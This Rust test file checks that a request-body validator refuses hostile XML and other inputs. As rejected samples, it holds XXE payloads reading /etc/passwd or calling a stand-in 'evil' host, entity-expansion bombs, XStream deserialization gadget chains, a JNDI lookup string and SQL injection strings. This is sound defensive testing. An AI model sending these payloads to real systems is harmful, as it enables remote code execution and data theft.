use super::super::BodyKind::{
    self, ConnectorMessage, EventFilter, HeaderMap, IntMap, MessageFilter, StringMap, UuidSet,
};
use super::super::judge;
use super::BodyRefusal::{
    self, Attribute, Character, Class, Element, Malformed, Markup, NotUtf8, Reference, Repeated, Value,
};
use super::{refusal, sent_type};

#[track_caller]
fn check(rows: &[(BodyKind, &str, BodyRefusal)]) {
    for (kind, body, expected) in rows {
        assert_eq!(refusal(*kind, body.as_bytes()), Some(*expected), "{kind:?}: {body}");
    }
}

#[test]
fn markup_that_is_not_an_element_is_refused() {
    check(&[
        (UuidSet, "<?xml version=\"1.0\"?><set/>", Markup),
        (UuidSet, "<?xml version=\"1.0\" encoding=\"UTF-7\"?><set/>", Markup),
        (UuidSet, "<set><?php x?></set>", Markup),
        (UuidSet, "<set/><?x?>", Markup),
        (UuidSet, "<!DOCTYPE set><set/>", Markup),
        (UuidSet, "<!doctype set><set/>", Markup),
        (UuidSet, "<!DOCTYPE set [<!ENTITY a \"b\">]><set><string>&a;</string></set>", Markup),
        (UuidSet, "<!DOCTYPE set SYSTEM \"file:///etc/passwd\"><set/>", Markup),
        (UuidSet, "<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://evil/\">%x;]><set/>", Markup),
        (
            StringMap,
            "<!DOCTYPE l [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]><map><entry><string>&b;</string>\
             </entry></map>",
            Markup,
        ),
        (UuidSet, "<!-- --><set/>", Markup),
        (UuidSet, "<set/><!-- -->", Markup),
        (UuidSet, "<set><string>a<!-- -->b</string></set>", Markup),
        (UuidSet, "<set><string><![CDATA[a]]></string></set>", Markup),
        (UuidSet, "<set><![CDATA[<dynamic-proxy/>]]></set>", Markup),
        (StringMap, "<map><entry><string>x</string><string><![CDATA[]]></string></entry></map>", Markup),
        (UuidSet, "<!ELEMENT set ANY><set/>", Markup),
        (UuidSet, "<![INCLUDE[<set/>]]>", Markup),
        (UuidSet, "<set><!></set>", Markup),
        (UuidSet, "<set><?></set>", Markup),
    ]);
}

#[test]
fn references_to_more_than_a_character_are_refused() {
    check(&[
        (StringMap, "<map><entry><string>&lol;</string><string/></entry></map>", Reference),
        (StringMap, "<map><entry><string>&nbsp;</string><string/></entry></map>", Reference),
        (StringMap, "<map><entry><string>&AMP;</string><string/></entry></map>", Reference),
        (StringMap, "<map><entry><string>&#xD800;</string><string/></entry></map>", Reference),
        (StringMap, "<map><entry><string>&#x110000;</string><string/></entry></map>", Reference),
        (StringMap, "<map><entry><string>&#99999999999999999999;</string><string/></entry></map>", Reference),
        (StringMap, "<map><entry><string>&#X41;</string><string/></entry></map>", Reference),
        (StringMap, "<map><entry><string>&;</string><string/></entry></map>", Reference),
        (StringMap, "<map><entry><string>&#0;</string><string/></entry></map>", Character),
        (StringMap, "<map><entry><string>&#x1c;</string><string/></entry></map>", Character),
        (StringMap, "<map><entry><string>&#xFFFE;</string><string/></entry></map>", Character),
        (StringMap, "<map><entry><string>a & b</string><string/></entry></map>", Malformed),
        (StringMap, "<map><entry><string>&amp</string><string/></entry></map>", Malformed),
        (UuidSet, "<set>&#x20;</set>", Value),
        (UuidSet, "&#x3c;set/>", Value),
        (UuidSet, "<set>&lt;dynamic-proxy/&gt;</set>", Value),
    ]);
}

#[test]
fn objects_that_a_gadget_is_made_of_are_refused() {
    let gadget = "<sorted-set><string>a</string><dynamic-proxy><interface>java.lang.Comparable</interface>\
                  <handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"/>\
                  </handler></dynamic-proxy></sorted-set>";
    for kind in BodyKind::ALL.into_iter().filter(|kind| kind.media_type() == Some("application/xml")) {
        assert_eq!(refusal(kind, gadget.as_bytes()), Some(Element), "{kind:?}");
    }
    check(&[
        (UuidSet, "<java.util.PriorityQueue/>", Element),
        (UuidSet, "<sorted-set/>", Element),
        (UuidSet, "<tree-set><comparator class=\"x\"/></tree-set>", Element),
        (UuidSet, "<tree-set><no-comparator/></tree-set>", Element),
        (UuidSet, "<set><dynamic-proxy/></set>", Element),
        (UuidSet, "<set><null/></set>", Element),
        (UuidSet, "<set><int>1</int></set>", Element),
        (UuidSet, "<set><set/></set>", Element),
        (UuidSet, "<set><entry/></set>", Element),
        (UuidSet, "<set><string><string>a</string></string></set>", Element),
        (UuidSet, "<set><java.util.PriorityQueue serialization=\"custom\"/></set>", Element),
        (UuidSet, "<set><javax.script.ScriptEngineManager/></set>", Element),
        (UuidSet, "<set><com.sun.rowset.JdbcRowSetImpl/></set>", Element),
        (UuidSet, "<map/>", Element),
        (StringMap, "<set/>", Element),
        (StringMap, "<hash-map/>", Element),
        (StringMap, "<tree-map><comparator/></tree-map>", Element),
        (StringMap, "<map><entry><string>a</string><java.lang.ProcessBuilder/></entry></map>", Element),
        (StringMap, "<map><entry><string>a</string><null/></entry></map>", Element),
        (StringMap, "<map><entry><jdk.nashorn.internal.objects.NativeString/></entry></map>", Element),
        (IntMap, "<map><entry><string>a</string><string>1</string></entry></map>", Element),
        (IntMap, "<map><string>a</string></map>", Element),
        (HeaderMap, "<map><entry><string>a</string><channel/></entry></map>", Element),
        (HeaderMap, "<map><entry><channelHeader/><string>a</string></entry></map>", Element),
        (MessageFilter, "<messageFilter><handler/></messageFilter>", Element),
        (MessageFilter, "<messageFilter><statuses><string>SENT</string></statuses></messageFilter>", Element),
        (MessageFilter, "<eventFilter/>", Element),
        (EventFilter, "<messageFilter/>", Element),
        (EventFilter, "<eventFilter><levels><dynamic-proxy/></levels></eventFilter>", Element),
        (ConnectorMessage, "<connectorMessage><sentProperties/></connectorMessage>", Element),
        (ConnectorMessage, "<connectorMessage><raw><dynamic-proxy/></raw></connectorMessage>", Element),
        (ConnectorMessage, "<connectorMessage><dynamic-proxy/></connectorMessage>", Element),
    ]);
}

#[test]
fn attributes_other_than_a_listed_class_are_refused() {
    check(&[
        (UuidSet, "<set class=\"java.util.PriorityQueue\"/>", Class),
        (UuidSet, "<set class=\"set\"/>", Class),
        (UuidSet, "<set class=\"\"/>", Class),
        (UuidSet, "<set><string class=\"string\">a</string></set>", Class),
        (UuidSet, "<set class='set'/>", Attribute),
        (UuidSet, "<set class=set/>", Attribute),
        (UuidSet, "<set class/>", Attribute),
        (UuidSet, "<set class = \"set\"/>", Attribute),
        (UuidSet, "<set CLASS=\"set\"/>", Attribute),
        (UuidSet, "<set id=\"1\"/>", Attribute),
        (UuidSet, "<set reference=\"../x\"/>", Attribute),
        (UuidSet, "<set><string reference=\"../string\"/></set>", Attribute),
        (UuidSet, "<set resolves-to=\"x\"/>", Attribute),
        (UuidSet, "<set defined-in=\"x\"/>", Attribute),
        (UuidSet, "<set serialization=\"custom\"/>", Attribute),
        (UuidSet, "<set xmlns=\"http://x\"/>", Attribute),
        (UuidSet, "<set xmlns:x=\"http://x\"/>", Attribute),
        (UuidSet, "<set xml:space=\"preserve\"/>", Attribute),
        (UuidSet, "<set xsi:type=\"x\"/>", Attribute),
    ]);
}

#[test]
fn classes_that_the_table_does_not_give_to_this_element_are_refused() {
    check(&[
        (MessageFilter, "<messageFilter class=\"messageFilter\"/>", Class),
        (
            MessageFilter,
            "<messageFilter><statuses class=\"java.util.Arrays$ArrayList\"/></messageFilter>",
            Class,
        ),
        (MessageFilter, "<messageFilter><contentSearch class=\"list\"/></messageFilter>", Class),
        (
            MessageFilter,
            "<messageFilter><contentSearch class=\"java.util.Arrays_-ArrayList\"/></messageFilter>",
            Class,
        ),
        (
            MessageFilter,
            "<messageFilter><contentSearch class=\"java.util.Arrays&#36;ArrayList\"/></messageFilter>",
            Attribute,
        ),
        (
            MessageFilter,
            "<messageFilter><contentSearch class=\" java.util.Arrays$ArrayList\"/></messageFilter>",
            Class,
        ),
        (
            MessageFilter,
            "<messageFilter><contentSearch class=\"java.util.Arrays$ArrayList\" class=\"x\"/>\
             </messageFilter>",
            Attribute,
        ),
        (
            MessageFilter,
            "<messageFilter><contentSearch class=\"java.util.Arrays$ArrayList\" reference=\"..\"/>\
             </messageFilter>",
            Attribute,
        ),
        (
            MessageFilter,
            "<messageFilter><contentSearch class=\"java.util.Arrays$ArrayList\"><a class=\"string-array\"/>\
             </contentSearch></messageFilter>",
            Class,
        ),
        (
            MessageFilter,
            "<messageFilter><contentSearch class=\"java.util.Arrays$ArrayList\"><a/></contentSearch>\
             </messageFilter>",
            Class,
        ),
        (
            MessageFilter,
            "<messageFilter><metaDataSearch><metaDataSearchCriteria><value>x</value></metaDataSearchCriteria>\
             </metaDataSearch></messageFilter>",
            Class,
        ),
        (
            MessageFilter,
            "<messageFilter><metaDataSearch><metaDataSearchCriteria>\
             <value class=\"javax.naming.InitialContext\"/>\
             </metaDataSearchCriteria></metaDataSearch></messageFilter>",
            Class,
        ),
        (
            MessageFilter,
            "<messageFilter><metaDataSearch><metaDataSearchCriteria><value class=\"string\"><dynamic-proxy/>\
             </value>\
             </metaDataSearchCriteria></metaDataSearch></messageFilter>",
            Element,
        ),
        (
            MessageFilter,
            "<messageFilter><metaDataSearch><metaDataSearchCriteria><value class=\"java-class\">\
             java.lang.Runtime</value>\
             </metaDataSearchCriteria></metaDataSearch></messageFilter>",
            Class,
        ),
        (ConnectorMessage, "<connectorMessage><raw class=\"map\"/></connectorMessage>", Class),
        (
            ConnectorMessage,
            "<connectorMessage><raw><content class=\"string\">a</content></raw></connectorMessage>",
            Class,
        ),
    ]);
}

#[test]
fn names_that_only_look_like_known_ones_are_refused() {
    check(&[
        (UuidSet, "<Set/>", Element),
        (UuidSet, "<SET/>", Element),
        (UuidSet, "<sеt/>", Element),
        (UuidSet, "<set\u{200b}/>", Element),
        (UuidSet, "<set\u{a0}/>", Element),
        (UuidSet, "<set\0/>", Element),
        (UuidSet, "<ｓet/>", Element),
        (UuidSet, "<x:set/>", Element),
        (UuidSet, "<:set/>", Element),
        (UuidSet, "< set/>", Element),
        (UuidSet, "<\nset/>", Element),
        (UuidSet, "<se t/>", Element),
        (UuidSet, "<set/ >", Element),
        (UuidSet, "<set / >", Attribute),
        (UuidSet, "<set//>", Element),
        (UuidSet, "<>", Element),
        (UuidSet, "</>", Malformed),
        (UuidSet, "<set></ set>", Malformed),
        (UuidSet, "<set><string_-x/></set>", Element),
        (UuidSet, "<set><s_tring/></set>", Element),
        (
            EventFilter,
            "<eventFilter><levels><com.mirth.connect.model.ServerEvent$Level/></levels></eventFilter>",
            Element,
        ),
    ]);
}

#[test]
fn bodies_that_are_not_one_whole_element_are_refused() {
    check(&[
        (UuidSet, "", Malformed),
        (UuidSet, " \n", Malformed),
        (UuidSet, "set", Value),
        (UuidSet, "<set>", Malformed),
        (UuidSet, "<set", Malformed),
        (UuidSet, "<set><string>a</set>", Malformed),
        (UuidSet, "<set><string>a</set></string>", Malformed),
        (UuidSet, "<set></list>", Malformed),
        (UuidSet, "</set>", Malformed),
        (UuidSet, "<set/></set>", Malformed),
        (UuidSet, "<set/><set/>", Malformed),
        (UuidSet, "<set/><dynamic-proxy/>", Malformed),
        (UuidSet, "<set/>x", Value),
        (UuidSet, "x<set/>", Value),
        (UuidSet, "<set>a</set>", Value),
        (UuidSet, "<set><string>a</string>b</set>", Value),
        (UuidSet, "<set/>\0", Value),
        (UuidSet, "<set/>\u{a0}", Value),
        (UuidSet, "<set class=\"a", Malformed),
        (StringMap, "<map><entry/></map>", Value),
        (StringMap, "<map><entry><string>a</string></entry></map>", Value),
        (StringMap, "<map><entry><string/><string/><string/></entry></map>", Element),
        (MessageFilter, "<messageFilter><startDate/></messageFilter>", Value),
        (MessageFilter, "<messageFilter><startDate><time>1</time></startDate></messageFilter>", Value),
        (
            MessageFilter,
            "<messageFilter><startDate><timezone>Etc/UTC</timezone><time>1</time></startDate>\
             </messageFilter>",
            Element,
        ),
        (
            MessageFilter,
            "<messageFilter><contentSearch class=\"java.util.Arrays$ArrayList\"/></messageFilter>",
            Value,
        ),
        (
            MessageFilter,
            "<messageFilter><serverId>a</serverId><serverId>a</serverId></messageFilter>",
            Repeated,
        ),
        (ConnectorMessage, "<connectorMessage><raw/><sent/><raw/></connectorMessage>", Repeated),
        (ConnectorMessage, "<connectorMessage><raw/><sent/><sent/></connectorMessage>", Repeated),
        (ConnectorMessage, "<connectorMessage/>", Value),
    ]);
}

#[test]
fn values_of_another_kind_are_refused() {
    check(&[
        (UuidSet, "<set><string/></set>", Value),
        (UuidSet, "<set><string>a b</string></set>", Value),
        (UuidSet, "<set><string>a&#x20;b</string></set>", Value),
        (UuidSet, "<set><string>../x</string></set>", Value),
        (UuidSet, "<set><string>${jndi:ldap://x}</string></set>", Value),
        (UuidSet, "<set><string> a</string></set>", Value),
        (UuidSet, "<set><string>a\n</string></set>", Value),
        (IntMap, "<map><entry><string>a</string><int>1;</int></entry></map>", Value),
        (MessageFilter, "<messageFilter><maxMessageId>1 OR 1=1</maxMessageId></messageFilter>", Value),
        (MessageFilter, "<messageFilter><maxMessageId/></messageFilter>", Value),
        (MessageFilter, "<messageFilter><maxMessageId>&#x661;</maxMessageId></messageFilter>", Value),
        (MessageFilter, "<messageFilter><attachment>TRUE</attachment></messageFilter>", Value),
        (
            MessageFilter,
            "<messageFilter><textSearchMetaDataColumns><string>A) OR (1=1</string>\
             </textSearchMetaDataColumns></messageFilter>",
            Value,
        ),
        (
            MessageFilter,
            "<messageFilter><metaDataSearch><metaDataSearchCriteria><columnName>\
             a\"; DROP TABLE x--</columnName>\
             </metaDataSearchCriteria></metaDataSearch></messageFilter>",
            Value,
        ),
        (
            MessageFilter,
            "<messageFilter><metaDataSearch><metaDataSearchCriteria><operator>= 1 OR</operator>\
             </metaDataSearchCriteria></metaDataSearch></messageFilter>",
            Value,
        ),
        (
            MessageFilter,
            "<messageFilter><metaDataSearch><metaDataSearchCriteria><value class=\"big-decimal\">\
             1E999999999</value>\
             </metaDataSearchCriteria></metaDataSearch></messageFilter>",
            Value,
        ),
        (
            MessageFilter,
            "<messageFilter><startDate><time>1</time><timezone>../../x y</timezone></startDate>\
             </messageFilter>",
            Value,
        ),
        (EventFilter, "<eventFilter><outcome>success</outcome></eventFilter>", Value),
        (ConnectorMessage, "<connectorMessage><messageId>1 </messageId></connectorMessage>", Value),
        (StringMap, "<map><entry><string>\u{1}</string><string/></entry></map>", Character),
        (StringMap, "<map><entry><string>\0</string><string/></entry></map>", Character),
        (StringMap, "<map><entry><string>\u{ffff}</string><string/></entry></map>", Character),
    ]);
}

#[test]
fn other_encodings_are_refused() {
    let utf16 = |big: bool| -> Vec<u8> {
        let units = "\u{feff}<set/>".encode_utf16();
        units.flat_map(|unit| if big { unit.to_be_bytes() } else { unit.to_le_bytes() }).collect()
    };
    let bodies: [(&[u8], BodyRefusal); 10] = [
        (b"\xef\xbb\xbf<set/>", NotUtf8),
        (&utf16(true), NotUtf8),
        (&utf16(false), NotUtf8),
        (b"<\0s\0e\0t\0/\0>\0", Attribute),
        (b"\0<\0s\0e\0t\0/\0>", Value),
        (b"+ADw-set/+AD4-", Value),
        (b"\xc0\xbcset/>", NotUtf8),
        (b"<set><string>\xe9</string></set>", NotUtf8),
        (b"<set><string>\xed\xa0\x80</string></set>", NotUtf8),
        (b"\x4c\xa2\x85\xa3\x61\x6e", NotUtf8),
    ];
    for (body, expected) in bodies {
        let found = refusal(UuidSet, body);
        // A NUL in a name is no blank, so the name is unknown.
        let expected = if body.starts_with(b"<\0") { Element } else { expected };
        assert_eq!(found, Some(expected), "{}", body.escape_ascii());
    }
}

#[test]
fn bodies_very_deep_or_very_wide_are_refused_early() {
    let deep = format!("{}{}", "<set>".repeat(100_000), "</set>".repeat(10_000));
    assert_eq!(refusal(UuidSet, deep.as_bytes()), Some(Element));
    let attributes = format!("<set {}/>", "a=\"b\" ".repeat(100_000));
    assert_eq!(refusal(UuidSet, attributes.as_bytes()), Some(Malformed));
    let name = format!("<{}/>", "a".repeat(1_000_000));
    assert_eq!(refusal(UuidSet, name.as_bytes()), Some(Malformed));
    let references = format!("<set><string>{}</string></set>", "&#65;".repeat(100_000));
    assert_eq!(refusal(UuidSet, references.as_bytes()), Some(Value));
    let open = "<".repeat(1_000_000);
    assert!(refusal(UuidSet, open.as_bytes()).is_some());
}

/// M-052 of `read-only-vectors.tsv`.
#[test]
fn the_hostile_bodies_of_the_vectors_are_refused() {
    let filter = b"<messageFilter><maxMessageId>10</maxMessageId></messageFilter>";
    let login = b"username=partner&password=x&_method=PUT";
    let rows: [(BodyKind, &[u8], &[u8]); 6] = [
        (MessageFilter, b"application/x-java-serialized-object", b"\xac\xed\x00\x05"),
        (MessageFilter, b"application/xml", b"\xac\xed\x00\x05"),
        (MessageFilter, b"application/xml", b"<sorted-set><string>a</string><dynamic-proxy/></sorted-set>"),
        (MessageFilter, b"application/xml; charset=UTF-7", filter),
        (MessageFilter, b"multipart/form-data; boundary=x", b"--x--"),
        (BodyKind::Form, b"application/x-www-form-urlencoded", login),
    ];
    for (kind, media_type, body) in rows {
        assert!(judge(kind, Some(media_type), body).is_err(), "{}", body.escape_ascii());
    }
    assert!(judge(MessageFilter, Some(b"application/xml"), filter).is_ok());
}

#[test]
fn kinds_that_are_never_passed_on_are_refused() {
    let multipart = judge(BodyKind::MultipartSets, Some(b"multipart/form-data; boundary=x"), b"--x--");
    assert_eq!(multipart, Err(BodyRefusal::Multipart));
    assert_eq!(judge(BodyKind::Stream, None, b""), Err(BodyRefusal::Unread));
    assert_eq!(judge(BodyKind::None, None, b"x"), Err(BodyRefusal::NotDue));
}

#[test]
fn a_text_holds_no_control_characters() {
    for body in [b"a\nb".as_slice(), b"\0", b"a\x7f", "\u{85}".as_bytes()] {
        assert_eq!(refusal(BodyKind::Text, body), Some(BodyRefusal::Text), "{}", body.escape_ascii());
    }
    assert_eq!(refusal(BodyKind::Text, b"\xff"), Some(NotUtf8));
    assert!(judge(BodyKind::Text, sent_type(BodyKind::Text), "pässwörd 1!".as_bytes()).is_ok());
}

#[test]
fn no_reason_quotes_the_body() {
    let marker = "Zx9Qj7";
    for body in [
        format!("<{marker}/>"),
        format!("<set {marker}=\"1\"/>"),
        format!("<set class=\"{marker}\"/>"),
        format!("<set><string>{marker}!</string></set>"),
        format!("<set>&{marker};</set>"),
        format!("<set></{marker}>"),
    ] {
        let reason = refusal(UuidSet, body.as_bytes()).expect("is refused").to_string();
        assert!(!reason.contains(marker) && reason.len() < 120, "{reason}");
    }
}
